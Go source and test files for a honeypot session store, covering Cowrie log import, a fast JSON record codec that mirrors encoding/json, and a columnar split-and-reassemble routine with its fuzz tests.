	// Fixture has 8 events; the bare scan record has connect + close.
	if n != 10 {
		t.Errorf("events = %d, want 10", n)
	}
}

func TestCowrieTimestampFormat(t *testing.T) {
	evs := cowrieFixture().CowrieEvents()
	if _, err := time.Parse("2006-01-02T15:04:05.000000Z", evs[0].Timestamp); err != nil {
		t.Errorf("timestamp %q not in cowrie format: %v", evs[0].Timestamp, err)
	}
}

func TestReadCowrieJSONLRoundTrip(t *testing.T) {
	src := cowrieFixture()
	var buf bytes.Buffer
	if err := WriteCowrieJSONL(&buf, []*Record{src}); err != nil {
		t.Fatal(err)
	}
	recs, err := ReadCowrieJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 {
		t.Fatalf("imported %d records, want 1", len(recs))
	}
	got := recs[0]
	if got.ID != src.ID {
		t.Errorf("ID = %d, want %d", got.ID, src.ID)
	}
	if !got.Start.Equal(src.Start) || !got.End.Equal(src.End) {
		t.Errorf("span = [%v, %v], want [%v, %v]", got.Start, got.End, src.Start, src.End)
	}
	if got.ClientIP != src.ClientIP || got.ClientPort != src.ClientPort ||
		got.HoneypotID != src.HoneypotID || got.HoneypotIP != src.HoneypotIP {
		t.Errorf("endpoints differ: %+v", got)
	}
	if got.ClientVersion != src.ClientVersion {
		t.Errorf("client version = %q", got.ClientVersion)
	}
	if len(got.Logins) != len(src.Logins) {
		t.Fatalf("logins = %d, want %d", len(got.Logins), len(src.Logins))
	}
	for i := range src.Logins {
		if got.Logins[i] != src.Logins[i] {
			t.Errorf("login %d = %+v, want %+v", i, got.Logins[i], src.Logins[i])
		}
	}
	if len(got.Commands) != len(src.Commands) {
		t.Fatalf("commands = %d, want %d", len(got.Commands), len(src.Commands))
	}
	for i := range src.Commands {
		if got.Commands[i].Raw != src.Commands[i].Raw {
			t.Errorf("command %d = %q, want %q", i, got.Commands[i].Raw, src.Commands[i].Raw)
		}
	}
	if len(got.Downloads) != 1 || got.Downloads[0].URI != src.Downloads[0].URI ||
		got.Downloads[0].Hash != src.Downloads[0].Hash {
		t.Errorf("downloads = %+v", got.Downloads)
	}
	if got.Kind() != src.Kind() {
		t.Errorf("kind = %v, want %v", got.Kind(), src.Kind())
	}
}

func TestReadCowrieJSONLGzipAndInterleaved(t *testing.T) {
	// Two sessions whose event streams interleave (as a real multi-node
	// log would), gzip-compressed: the reader must group by session id in
	// first-seen order and see through the compression.
	a, b := cowrieFixture(), cowrieFixture()
	b.ID = 0xdef
	b.ClientIP = "10.4.5.6"
	var evs []CowrieEvent
	ae, be := a.CowrieEvents(), b.CowrieEvents()
	for i := 0; i < len(ae) || i < len(be); i++ {
		if i < len(ae) {
			evs = append(evs, ae[i])
		}
		if i < len(be) {
			evs = append(evs, be[i])
		}
	}
	var plain bytes.Buffer
	enc := json.NewEncoder(&plain)
	for _, ev := range evs {
		if err := enc.Encode(ev); err != nil {
			t.Fatal(err)
		}
	}
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	if _, err := zw.Write(plain.Bytes()); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}

	recs, err := ReadCowrieJSONL(&gz)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 {
		t.Fatalf("imported %d records, want 2", len(recs))
	}
	if recs[0].ID != a.ID || recs[1].ID != b.ID {
		t.Errorf("session order = %d, %d; want first-seen order %d, %d",
			recs[0].ID, recs[1].ID, a.ID, b.ID)
	}
	if recs[1].ClientIP != b.ClientIP {
		t.Errorf("session b client = %q", recs[1].ClientIP)
	}
	if len(recs[0].Commands) != len(a.Commands) {
		t.Errorf("interleaving corrupted session a: %d commands", len(recs[0].Commands))
	}
}
