package session

import (
	"encoding/json"
	"math"
	"math/bits"
	"strconv"
	"time"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"
)

// This file is the store's record codec: a hand-rolled encoder and
// decoder for Record that produce byte-for-byte the same output and
// value-for-value the same result as encoding/json, at a fraction of
// the cost. encoding/json stays the reference implementation: the
// encoder falls back to json.Marshal for inputs outside the canonical
// fast path (times RFC 3339 cannot represent), and the decoder falls
// back to json.Unmarshal on any input that is not exactly the shape the
// encoder produces — so behaviour, including errors, never diverges.
// FuzzRecordJSON pins the equivalence in both directions.

const hexDigits = "0123456789abcdef"

// jsonSafe marks ASCII bytes encoding/json (with HTML escaping, the
// json.Marshal default) passes through unescaped.
var jsonSafe [utf8.RuneSelf]bool

func init() {
	for c := 0x20; c < utf8.RuneSelf; c++ {
		jsonSafe[c] = true
	}
	for _, c := range []byte{'"', '\\', '<', '>', '&'} {
		jsonSafe[c] = false
	}
}

// AppendJSON appends r encoded exactly as json.Marshal(r) would encode
// it and returns the extended buffer. The output is byte-identical to
// encoding/json in every case: inputs the fast path cannot represent
// canonically are delegated to json.Marshal wholesale.
func AppendJSON(dst []byte, r *Record) ([]byte, error) {
	if r == nil {
		return append(dst, "null"...), nil
	}
	n0 := len(dst)
	var ok bool
	dst = append(dst, `{"id":`...)
	dst = strconv.AppendUint(dst, r.ID, 10)
	dst = append(dst, `,"start":`...)
	if dst, ok = appendTimeJSON(dst, r.Start); !ok {
		return appendJSONFallback(dst[:n0], r)
	}
	dst = append(dst, `,"end":`...)
	if dst, ok = appendTimeJSON(dst, r.End); !ok {
		return appendJSONFallback(dst[:n0], r)
	}
	dst = append(dst, `,"hp":`...)
	dst = appendJSONString(dst, r.HoneypotID)
	if r.HoneypotIP != "" {
		dst = append(dst, `,"hp_ip":`...)
		dst = appendJSONString(dst, r.HoneypotIP)
	}
	dst = append(dst, `,"client_ip":`...)
	dst = appendJSONString(dst, r.ClientIP)
	if r.ClientPort != 0 {
		dst = append(dst, `,"client_port":`...)
		dst = strconv.AppendInt(dst, int64(r.ClientPort), 10)
	}
	dst = append(dst, `,"proto":`...)
	dst = appendJSONString(dst, r.Protocol)
	if r.ClientVersion != "" {
		dst = append(dst, `,"client_ver":`...)
		dst = appendJSONString(dst, r.ClientVersion)
	}
	if len(r.Logins) > 0 {
		dst = append(dst, `,"logins":[`...)
		for i := range r.Logins {
			if i > 0 {
				dst = append(dst, ',')
			}
			l := &r.Logins[i]
			dst = append(dst, `{"user":`...)
			dst = appendJSONString(dst, l.Username)
			dst = append(dst, `,"pass":`...)
			dst = appendJSONString(dst, l.Password)
			dst = append(dst, `,"ok":`...)
			dst = appendJSONBool(dst, l.Success)
			dst = append(dst, '}')
		}
		dst = append(dst, ']')
	}
	if len(r.Commands) > 0 {
		dst = append(dst, `,"cmds":[`...)
		for i := range r.Commands {
			if i > 0 {
				dst = append(dst, ',')
			}
			c := &r.Commands[i]
			dst = append(dst, `{"raw":`...)
			dst = appendJSONString(dst, c.Raw)
			dst = append(dst, `,"known":`...)
			dst = appendJSONBool(dst, c.Known)
			dst = append(dst, '}')
		}
		dst = append(dst, ']')
	}
	if len(r.Downloads) > 0 {
		dst = append(dst, `,"dls":[`...)
		for i := range r.Downloads {
			if i > 0 {
				dst = append(dst, ',')
			}
			d := &r.Downloads[i]
			dst = append(dst, `{"uri":`...)
			dst = appendJSONString(dst, d.URI)
			if d.SourceIP != "" {
				dst = append(dst, `,"src_ip":`...)
				dst = appendJSONString(dst, d.SourceIP)
			}
			if d.Hash != "" {
				dst = append(dst, `,"hash":`...)
				dst = appendJSONString(dst, d.Hash)
			}
			if d.Size != 0 {
				dst = append(dst, `,"size":`...)
				dst = strconv.AppendInt(dst, d.Size, 10)
			}
			dst = append(dst, '}')
		}
		dst = append(dst, ']')
	}
	if len(r.ExecAttempts) > 0 {
		dst = append(dst, `,"execs":[`...)
		for i := range r.ExecAttempts {
			if i > 0 {
				dst = append(dst, ',')
			}
			e := &r.ExecAttempts[i]
			dst = append(dst, `{"path":`...)
			dst = appendJSONString(dst, e.Path)
			dst = append(dst, `,"exists":`...)
			dst = appendJSONBool(dst, e.FileExists)
			if e.Hash != "" {
				dst = append(dst, `,"hash":`...)
				dst = appendJSONString(dst, e.Hash)
			}
			dst = append(dst, '}')
		}
		dst = append(dst, ']')
	}
	if r.StateChanged {
		dst = append(dst, `,"state_changed":true`...)
	}
	if len(r.DroppedHashes) > 0 {
		dst = append(dst, `,"hashes":[`...)
		for i, h := range r.DroppedHashes {
			if i > 0 {
				dst = append(dst, ',')
			}
			dst = appendJSONString(dst, h)
		}
		dst = append(dst, ']')
	}
	if r.TimedOut {
		dst = append(dst, `,"timeout":true`...)
	}
	return append(dst, '}'), nil
}

// appendJSONFallback discards the partial fast-path output and encodes
// the whole record through encoding/json, so both the bytes and any
// error are exactly the stdlib's.
func appendJSONFallback(dst []byte, r *Record) ([]byte, error) {
	b, err := json.Marshal(r)
	if err != nil {
		return dst, err
	}
	return append(dst, b...), nil
}

func appendJSONBool(dst []byte, v bool) []byte {
	if v {
		return append(dst, "true"...)
	}
	return append(dst, "false"...)
}

// appendTimeJSON appends t as a quoted RFC 3339 timestamp. It reports
// ok=false for the same inputs time.Time.MarshalJSON rejects (year
// outside [0,9999], zone hour outside [0,23]); the caller then falls
// back to encoding/json so the error matches the stdlib's.
func appendTimeJSON(dst []byte, t time.Time) ([]byte, bool) {
	dst = append(dst, '"')
	n0 := len(dst)
	dst = t.AppendFormat(dst, time.RFC3339Nano)
	if len(dst)-n0 < len("2006-01-02T15:04:05Z") || dst[n0+4] != '-' {
		return dst, false // year not exactly 4 digits
	}
	if dst[len(dst)-1] != 'Z' {
		c := dst[len(dst)-6]
		if ('0' <= c && c <= '9') || 10*(dst[len(dst)-5]-'0')+(dst[len(dst)-4]-'0') >= 24 {
			return dst, false // zone hour outside [0,23]
		}
	}
	return append(dst, '"'), true
}

// le64str loads 8 little-endian bytes of s at i (the compiler folds
// this into a single load).
func le64str(s string, i int) uint64 {
	_ = s[i+7]
	return uint64(s[i]) | uint64(s[i+1])<<8 | uint64(s[i+2])<<16 | uint64(s[i+3])<<24 |
		uint64(s[i+4])<<32 | uint64(s[i+5])<<40 | uint64(s[i+6])<<48 | uint64(s[i+7])<<56
}

// jsonUnsafeMask flags, per byte lane (high bit), bytes a JSON string
// cannot carry verbatim under encoding/json's HTML-escaping rules:
// anything below 0x20 or above 0x7F, and " \ < > &.
func jsonUnsafeMask(x uint64) uint64 {
	const (
		ones = 0x0101010101010101
		his  = 0x8080808080808080
	)
	eq := func(c byte) uint64 {
		z := x ^ (ones * uint64(c))
		return (z - ones) &^ z & his
	}
	unsafe := x & his                    // ≥ 0x80
	unsafe |= (x - ones*0x20) &^ x & his // < 0x20 (only meaningful when the high bit is clear)
	return unsafe | eq('"') | eq('\\') | eq('<') | eq('>') | eq('&')
}

// appendJSONString appends s JSON-quoted exactly as encoding/json does
// with HTML escaping on: ", \, control characters, <, >, &, U+2028/29
// escaped, invalid UTF-8 replaced with �.
func appendJSONString(dst []byte, s string) []byte {
	dst = append(dst, '"')
	start := 0
	for i := 0; i < len(s); {
		// Skip runs of plain ASCII eight bytes at a time; the byte and
		// rune handling below only ever sees flagged positions (or the
		// sub-8-byte tail).
		for i+8 <= len(s) {
			u := jsonUnsafeMask(le64str(s, i))
			if u != 0 {
				i += bits.TrailingZeros64(u) >> 3
				break
			}
			i += 8
		}
		if i >= len(s) {
			break
		}
		if b := s[i]; b < utf8.RuneSelf {
			if jsonSafe[b] {
				i++
				continue
			}
			dst = append(dst, s[start:i]...)
			switch b {
			case '\\', '"':
				dst = append(dst, '\\', b)
			case '\b':
				dst = append(dst, '\\', 'b')
			case '\f':
				dst = append(dst, '\\', 'f')
			case '\n':
				dst = append(dst, '\\', 'n')
			case '\r':
				dst = append(dst, '\\', 'r')
			case '\t':
				dst = append(dst, '\\', 't')
			default:
				dst = append(dst, '\\', 'u', '0', '0', hexDigits[b>>4], hexDigits[b&0xF])
			}
			i++
			start = i
			continue
		}
		c, size := utf8.DecodeRuneInString(s[i:])
		if c == utf8.RuneError && size == 1 {
			dst = append(dst, s[start:i]...)
			dst = append(dst, `\ufffd`...)
			i += size
			start = i
			continue
		}
		if c == ' ' || c == ' ' {
			dst = append(dst, s[start:i]...)
			dst = append(dst, '\\', 'u', '2', '0', '2', hexDigits[c&0xF])
			i += size
			start = i
			continue
		}
		i += size
	}
	dst = append(dst, s[start:]...)
	return append(dst, '"')
}

// FieldMask selects which Record sections a projected decode must
// populate. Cheap scalar fields (ID, Start, ClientPort, the booleans)
// are always decoded; the maskable sections are the ones whose decode
// costs an allocation (strings) or a slice build (the nested arrays).
// A masked-out section is left at its zero value on the fast path, but
// callers must treat it as unspecified: non-canonical input falls back
// to a full stdlib decode, which populates everything.
type FieldMask uint16

const (
	FEnd FieldMask = 1 << iota
	FHoneypotID
	FHoneypotIP
	FClientIP
	FClientVersion
	FLogins
	FCommands
	FDownloads
	FExecs
	FHashes

	// FAllFields decodes every section; DecodeMasked(FAllFields) is
	// exactly Decode.
	FAllFields FieldMask = 1<<10 - 1
)

// JSONDecoder decodes record lines, keeping an unescape scratch buffer
// across calls. The zero value is ready to use; a decoder is not safe
// for concurrent use.
type JSONDecoder struct {
	scratch []byte
}

// DecodeJSON decodes one record line into r, overwriting it — the
// result is identical to json.Unmarshal(data, r) on a zeroed r.
func DecodeJSON(data []byte, r *Record) error {
	var d JSONDecoder
	return d.Decode(data, r)
}

// Decode decodes one record line into r, overwriting it. The fast path
// accepts exactly the canonical encoding AppendJSON/json.Marshal
// produce; any other input — reordered or unknown keys, whitespace,
// null, unusual number forms — is delegated to json.Unmarshal, so the
// result (including errors) always matches the stdlib on a zero Record.
func (d *JSONDecoder) Decode(data []byte, r *Record) error {
	*r = Record{}
	if d.decodeFast(data, r, FAllFields) {
		return nil
	}
	*r = Record{}
	return json.Unmarshal(data, r)
}

// DecodeMasked decodes one record line into r, guaranteeing only the
// sections selected by keep (plus the always-decoded scalars: ID, Start,
// ClientPort, Protocol, StateChanged, TimedOut). Skipped string fields
// avoid the unescape-and-allocate step and skipped arrays avoid the
// slice build entirely, so a query that projects a few fields decodes a
// fraction of each record. Sections outside keep hold unspecified
// values — zero on the fast path, fully decoded after a stdlib
// fallback.
func (d *JSONDecoder) DecodeMasked(data []byte, r *Record, keep FieldMask) error {
	*r = Record{}
	if d.decodeFast(data, r, keep) {
		return nil
	}
	*r = Record{}
	return json.Unmarshal(data, r)
}

// errBailFast signals "not canonical — use encoding/json" inside the
// fast path. It is the only panic decodeFast recovers.
type errBailFast struct{}

type jsonDec struct {
	d       []byte
	i       int
	scratch *[]byte
}

func (d *JSONDecoder) decodeFast(data []byte, r *Record, keep FieldMask) (ok bool) {
	defer func() {
		if p := recover(); p != nil {
			if _, bail := p.(errBailFast); bail {
				ok = false
				return
			}
			panic(p)
		}
	}()
	p := &jsonDec{d: data, scratch: &d.scratch}

	p.lit(`{"id":`)
	r.ID = p.uint()
	p.lit(`,"start":`)
	p.time(&r.Start)
	p.lit(`,"end":`)
	if keep&FEnd != 0 {
		p.time(&r.End)
	} else {
		p.skipStr()
	}
	p.lit(`,"hp":`)
	p.maskedStr(&r.HoneypotID, keep&FHoneypotID != 0)
	if p.tryLit(`,"hp_ip":`) {
		p.maskedStr(&r.HoneypotIP, keep&FHoneypotIP != 0)
	}
	p.lit(`,"client_ip":`)
	p.maskedStr(&r.ClientIP, keep&FClientIP != 0)
	if p.tryLit(`,"client_port":`) {
		r.ClientPort = int(p.int())
	}
	p.lit(`,"proto":`)
	r.Protocol = p.str()
	if p.tryLit(`,"client_ver":`) {
		p.maskedStr(&r.ClientVersion, keep&FClientVersion != 0)
	}
	if p.tryLit(`,"logins":[`) {
		if keep&FLogins == 0 {
			p.skipArrayTail()
		} else {
			r.Logins = p.loginsArr()
		}
	}
	if p.tryLit(`,"cmds":[`) {
		if keep&FCommands == 0 {
			p.skipArrayTail()
		} else {
			r.Commands = p.cmdsArr()
		}
	}
	if p.tryLit(`,"dls":[`) {
		if keep&FDownloads == 0 {
			p.skipArrayTail()
		} else {
			r.Downloads = p.dlsArr()
		}
	}
	if p.tryLit(`,"execs":[`) {
		if keep&FExecs == 0 {
			p.skipArrayTail()
		} else {
			r.ExecAttempts = p.execsArr()
		}
	}
	if p.tryLit(`,"state_changed":`) {
		r.StateChanged = p.bool()
	}
	if p.tryLit(`,"hashes":[`) {
		if keep&FHashes == 0 {
			p.skipArrayTail()
		} else {
			r.DroppedHashes = p.hashesArr()
		}
	}
	if p.tryLit(`,"timeout":`) {
		r.TimedOut = p.bool()
	}
	p.byte('}')
	if p.i != len(p.d) {
		p.bail()
	}
	return true
}

// The array parsers below consume a canonical field array whose opening
// '[' the caller already consumed. They are shared between the full-line
// fast path (decodeFast) and the columnar fragment decode
// (DecodeColumns), so both produce identical values.

func (p *jsonDec) loginsArr() []LoginAttempt {
	ls := []LoginAttempt{}
	if p.peek() == ']' {
		p.i++
		return ls
	}
	for {
		var l LoginAttempt
		p.lit(`{"user":`)
		l.Username = p.str()
		p.lit(`,"pass":`)
		l.Password = p.str()
		p.lit(`,"ok":`)
		l.Success = p.bool()
		p.byte('}')
		ls = append(ls, l)
		if !p.arrayMore() {
			return ls
		}
	}
}

func (p *jsonDec) cmdsArr() []Command {
	cs := []Command{}
	if p.peek() == ']' {
		p.i++
		return cs
	}
	for {
		var c Command
		p.lit(`{"raw":`)
		c.Raw = p.str()
		p.lit(`,"known":`)
		c.Known = p.bool()
		p.byte('}')
		cs = append(cs, c)
		if !p.arrayMore() {
			return cs
		}
	}
}

func (p *jsonDec) dlsArr() []Download {
	ds := []Download{}
	if p.peek() == ']' {
		p.i++
		return ds
	}
	for {
		var dl Download
		p.lit(`{"uri":`)
		dl.URI = p.str()
		if p.tryLit(`,"src_ip":`) {
			dl.SourceIP = p.str()
		}
		if p.tryLit(`,"hash":`) {
			dl.Hash = p.str()
		}
		if p.tryLit(`,"size":`) {
			dl.Size = p.int()
		}
		p.byte('}')
		ds = append(ds, dl)
		if !p.arrayMore() {
			return ds
		}
	}
}

func (p *jsonDec) execsArr() []ExecAttempt {
	es := []ExecAttempt{}
	if p.peek() == ']' {
		p.i++
		return es
	}
	for {
		var e ExecAttempt
		p.lit(`{"path":`)
		e.Path = p.str()
		p.lit(`,"exists":`)
		e.FileExists = p.bool()
		if p.tryLit(`,"hash":`) {
			e.Hash = p.str()
		}
		p.byte('}')
		es = append(es, e)
		if !p.arrayMore() {
			return es
		}
	}
}

func (p *jsonDec) hashesArr() []string {
	hs := []string{}
	if p.peek() == ']' {
		p.i++
		return hs
	}
	for {
		hs = append(hs, p.str())
		if !p.arrayMore() {
			return hs
		}
	}
}

// maskedStr parses a string field, either into *dst or — when the
// field is masked out — as a no-alloc skip.
func (p *jsonDec) maskedStr(dst *string, keep bool) {
	if keep {
		*dst = p.str()
	} else {
		p.skipStr()
	}
}

// skipStr consumes a JSON string without unescaping or allocating.
// Canonical strings never hold raw control bytes, and every escape is
// either a single escaped byte or \uXXXX, so skipping the byte after
// each backslash is enough to never mistake an escaped quote for the
// terminator.
func (p *jsonDec) skipStr() {
	p.byte('"')
	i := p.i
	for i < len(p.d) {
		switch p.d[i] {
		case '\\':
			i += 2
		case '"':
			p.i = i + 1
			return
		default:
			i++
		}
	}
	p.bail()
}

// skipArrayTail consumes the remainder of an array whose opening '[' the
// caller already consumed, tracking bracket depth and skipping over
// strings so structural bytes inside them are ignored.
func (p *jsonDec) skipArrayTail() {
	depth := 1
	for p.i < len(p.d) {
		switch p.d[p.i] {
		case '[', '{':
			depth++
			p.i++
		case ']', '}':
			depth--
			p.i++
			if depth == 0 {
				return
			}
		case '"':
			p.skipStr()
		default:
			p.i++
		}
	}
	p.bail()
}

func (p *jsonDec) bail() {
	panic(errBailFast{})
}

// byte consumes exactly c.
func (p *jsonDec) byte(c byte) {
	if p.i >= len(p.d) || p.d[p.i] != c {
		p.bail()
	}
	p.i++
}

func (p *jsonDec) peek() byte {
	if p.i >= len(p.d) {
		p.bail()
	}
	return p.d[p.i]
}

// lit consumes the literal l or bails.
func (p *jsonDec) lit(l string) {
	if !p.tryLit(l) {
		p.bail()
	}
}

// tryLit consumes the literal l if it is next.
func (p *jsonDec) tryLit(l string) bool {
	if len(p.d)-p.i >= len(l) && string(p.d[p.i:p.i+len(l)]) == l {
		p.i += len(l)
		return true
	}
	return false
}

// arrayMore consumes "," (more elements) or "]" (done).
func (p *jsonDec) arrayMore() bool {
	switch p.peek() {
	case ',':
		p.i++
		return true
	case ']':
		p.i++
		return false
	}
	p.bail()
	return false
}

// uint parses a non-negative JSON integer with no float forms.
func (p *jsonDec) uint() uint64 {
	s, i := p.d, p.i
	if i >= len(s) || s[i] < '0' || s[i] > '9' {
		p.bail()
	}
	start := i
	var v uint64
	for i < len(s) && s[i] >= '0' && s[i] <= '9' {
		c := uint64(s[i] - '0')
		if v > (math.MaxUint64-c)/10 {
			p.bail()
		}
		v = v*10 + c
		i++
	}
	if s[start] == '0' && i-start > 1 {
		p.bail() // leading zero: not valid JSON
	}
	if i < len(s) {
		switch s[i] {
		case '.', 'e', 'E':
			p.bail() // float form: defer to the stdlib's error
		}
	}
	p.i = i
	return v
}

// int parses a signed JSON integer.
func (p *jsonDec) int() int64 {
	neg := false
	if p.peek() == '-' {
		neg = true
		p.i++
	}
	v := p.uint()
	if neg {
		if v > 1<<63 {
			p.bail()
		}
		return -int64(v)
	}
	if v > math.MaxInt64 {
		p.bail()
	}
	return int64(v)
}

func (p *jsonDec) bool() bool {
	if p.tryLit("true") {
		return true
	}
	if p.tryLit("false") {
		return false
	}
	p.bail()
	return false
}

// time parses a quoted timestamp by handing the raw token to
// time.Time.UnmarshalJSON — exactly what encoding/json does for a
// Marshaler field — so parsing semantics are the stdlib's.
func (p *jsonDec) time(t *time.Time) {
	s, i := p.d, p.i
	if i >= len(s) || s[i] != '"' {
		p.bail()
	}
	j := i + 1
	for j < len(s) && s[j] != '"' {
		if s[j] == '\\' {
			p.bail()
		}
		j++
	}
	if j >= len(s) {
		p.bail()
	}
	if err := t.UnmarshalJSON(s[i : j+1]); err != nil {
		p.bail()
	}
	p.i = j + 1
}

// str parses a JSON string. Strings without escapes, control bytes, or
// non-ASCII take the scan-and-slice fast path; everything else goes
// through strSlow, which replicates encoding/json's unquoting.
func (p *jsonDec) str() string {
	p.byte('"')
	start := p.i
	for i := start; i < len(p.d); i++ {
		c := p.d[i]
		if c == '"' {
			p.i = i + 1
			return string(p.d[start:i])
		}
		if c == '\\' || c < 0x20 || c >= utf8.RuneSelf {
			return p.strSlow(start, i)
		}
	}
	p.bail()
	return ""
}

// strSlow finishes parsing a string that contains escapes or non-ASCII
// bytes, starting at i with s[start:i] already verified clean. It
// mirrors encoding/json's unquote: \uXXXX with UTF-16 surrogate pairs,
// invalid UTF-8 replaced with U+FFFD, raw control bytes rejected
// (bail → stdlib error).
func (p *jsonDec) strSlow(start, i int) string {
	buf := append((*p.scratch)[:0], p.d[start:i]...)
	s := p.d
	for i < len(s) {
		c := s[i]
		switch {
		case c == '"':
			p.i = i + 1
			*p.scratch = buf
			return string(buf)
		case c == '\\':
			i++
			if i >= len(s) {
				p.bail()
			}
			switch s[i] {
			case '"', '\\', '/':
				buf = append(buf, s[i])
				i++
			case 'b':
				buf = append(buf, '\b')
				i++
			case 'f':
				buf = append(buf, '\f')
				i++
			case 'n':
				buf = append(buf, '\n')
				i++
			case 'r':
				buf = append(buf, '\r')
				i++
			case 't':
				buf = append(buf, '\t')
				i++
			case 'u':
				r1, ok := hex4(s, i+1)
				if !ok {
					p.bail()
				}
				i += 5
				if utf16.IsSurrogate(r1) {
					if i+6 <= len(s) && s[i] == '\\' && s[i+1] == 'u' {
						if r2, ok2 := hex4(s, i+2); ok2 {
							if dec := utf16.DecodeRune(r1, r2); dec != unicode.ReplacementChar {
								i += 6
								buf = utf8.AppendRune(buf, dec)
								break
							}
						}
					}
					r1 = unicode.ReplacementChar
				}
				buf = utf8.AppendRune(buf, r1)
			default:
				p.bail()
			}
		case c < 0x20:
			p.bail()
		case c < utf8.RuneSelf:
			buf = append(buf, c)
			i++
		default:
			rr, size := utf8.DecodeRune(s[i:])
			if rr == utf8.RuneError && size == 1 {
				buf = utf8.AppendRune(buf, utf8.RuneError)
				i++
			} else {
				buf = append(buf, s[i:i+size]...)
				i += size
			}
		}
	}
	p.bail()
	return ""
}

// hex4 parses four hex digits at s[i:].
func hex4(s []byte, i int) (rune, bool) {
	if i+4 > len(s) {
		return 0, false
	}
	var r rune
	for _, c := range s[i : i+4] {
		switch {
		case '0' <= c && c <= '9':
			c -= '0'
		case 'a' <= c && c <= 'f':
			c = c - 'a' + 10
		case 'A' <= c && c <= 'F':
			c = c - 'A' + 10
		default:
			return 0, false
		}
		r = r*16 + rune(c)
	}
	return r, true
}
