package session

import (
	"bytes"
	"encoding/json"
	"reflect"
	"testing"
)

// shredCases returns canonical lines for every record the codec cases
// can encode.
func shredCases(t testing.TB) [][]byte {
	var lines [][]byte
	for _, r := range jsonFastCases() {
		line, err := json.Marshal(r)
		if err != nil {
			continue
		}
		lines = append(lines, line)
	}
	if len(lines) == 0 {
		t.Fatal("no canonical cases")
	}
	return lines
}

func TestShredAssembleRoundTrip(t *testing.T) {
	var cols Columns
	for _, line := range shredCases(t) {
		if !ShredJSON(line, &cols) {
			t.Fatalf("ShredJSON rejected canonical line %s", line)
		}
		got := AppendAssembled(nil, &cols)
		if !bytes.Equal(got, line) {
			t.Fatalf("round trip mismatch:\n got %s\nwant %s", got, line)
		}
	}
}

func TestShredRejectsNonCanonical(t *testing.T) {
	cases := []string{
		``,
		`{}`,
		`null`,
		`{"proto":"ssh","id":7}`, // reordered
		`{"id":1,"start":"s","end":"e","hp":"h","client_ip":"c","proto":"p","x":1}`, // unknown trailing key
		`{"id":1,"start":"s","end":"e","hp":"h","client_ip":"c","proto":"p"} `,      // trailing byte
		`{"id":1,"start":"s","end":"e","hp":"h","client_ip":"c"}`,                   // missing required proto
		`{"id":1,"start":"s","end":"e","hp":"h","client_ip":"c","proto":"unterm`,
	}
	var cols Columns
	for _, in := range cases {
		if ShredJSON([]byte(in), &cols) {
			t.Errorf("ShredJSON accepted non-canonical %q", in)
		}
	}
}

// TestDecodeColumnsMatchesDecode: for every canonical line and every
// mask, decoding shredded fragments must equal DecodeMasked on the
// whole line.
func TestDecodeColumnsMatchesDecode(t *testing.T) {
	masks := []FieldMask{0, FAllFields, FClientIP, FEnd | FCommands, FLogins | FHashes,
		FHoneypotID | FHoneypotIP | FClientVersion | FDownloads | FExecs}
	var dec JSONDecoder
	var cols Columns
	for _, line := range shredCases(t) {
		if !ShredJSON(line, &cols) {
			t.Fatalf("shred rejected %s", line)
		}
		for _, m := range masks {
			var want, got Record
			if err := dec.DecodeMasked(line, &want, m); err != nil {
				t.Fatalf("DecodeMasked: %v", err)
			}
			if !dec.DecodeColumns(&cols, &got, m) {
				t.Fatalf("DecodeColumns rejected fragments of %s", line)
			}
			if !reflect.DeepEqual(&got, &want) {
				t.Fatalf("mask %#x mismatch on %s:\n got %+v\nwant %+v", m, line, got, want)
			}
		}
	}
}

// TestDecodeColumnsOnlyTouchesMaskedColumns pins the byte-skipping
// contract: columns outside ColumnsForMask(keep) are never read, so a
// store reader can leave them nil.
func TestDecodeColumnsOnlyTouchesMaskedColumns(t *testing.T) {
	line := shredCases(t)[1] // the fully-populated record
	var full Columns
	if !ShredJSON(line, &full) {
		t.Fatal("shred rejected full line")
	}
	var dec JSONDecoder
	for _, m := range []FieldMask{0, FClientIP, FEnd | FCommands, FAllFields} {
		need := ColumnsForMask(m)
		pruned := full
		for c := 0; c < NumColumns; c++ {
			if !need.Has(c) {
				pruned[c] = nil
			}
		}
		var want, got Record
		if err := dec.DecodeMasked(line, &want, m); err != nil {
			t.Fatal(err)
		}
		if !dec.DecodeColumns(&pruned, &got, m) {
			t.Fatalf("DecodeColumns rejected pruned fragments (mask %#x)", m)
		}
		if !reflect.DeepEqual(&got, &want) {
			t.Fatalf("pruned decode mismatch (mask %#x):\n got %+v\nwant %+v", m, got, want)
		}
	}
}

// FuzzColumnShred pins the shred/assemble identity on arbitrary input
// and, when fragments decode, value equivalence with the whole-line
// decoder.
func FuzzColumnShred(f *testing.F) {
	for _, r := range jsonFastCases() {
		if line, err := json.Marshal(r); err == nil {
			f.Add(line)
		}
	}
	f.Add([]byte(`{"id":1,"start":"2021-07-03T12:30:45Z","end":"2021-07-03T12:30:45Z","hp":"a","client_ip":"b","proto":"ssh","timeout":true}`))
	f.Add([]byte(`{"id":1e5,"start":[1,{"x":"]"}],"end":null,"hp":"h","client_ip":"c","proto":"p"}`))
	var dec JSONDecoder
	f.Fuzz(func(t *testing.T, line []byte) {
		var cols Columns
		if !ShredJSON(line, &cols) {
			// Rejected lines go to the raw overflow column; nothing to pin.
			return
		}
		// Identity: reassembling the fragments must reproduce the line.
		if got := AppendAssembled(nil, &cols); !bytes.Equal(got, line) {
			t.Fatalf("assemble mismatch:\n got %s\nwant %s", got, line)
		}
		// Equivalence: when the fragments decode on the columnar path,
		// the whole-line decoder must agree (it may additionally succeed
		// via its stdlib fallback when the columnar path bails — that is
		// the store's fallback route and is fine).
		var got Record
		if !dec.DecodeColumns(&cols, &got, FAllFields) {
			return
		}
		var want Record
		if err := dec.Decode(line, &want); err != nil {
			t.Fatalf("DecodeColumns accepted but Decode errored: %v on %q", err, line)
		}
		if !reflect.DeepEqual(&got, &want) {
			t.Fatalf("columnar decode mismatch on %q:\n got %+v\nwant %+v", line, got, want)
		}
	})
}
