package session

import (
	"bytes"
	"encoding/json"
	"reflect"
	"testing"
	"time"
)

// jsonFastCases covers the encoder's canonical path and every fallback
// trigger: empty/full records, HTML-escaped and control characters,
// invalid UTF-8, U+2028/29, surrogate-needing runes, fractional-second
// and zoned times, and times RFC 3339 cannot represent.
func jsonFastCases() []*Record {
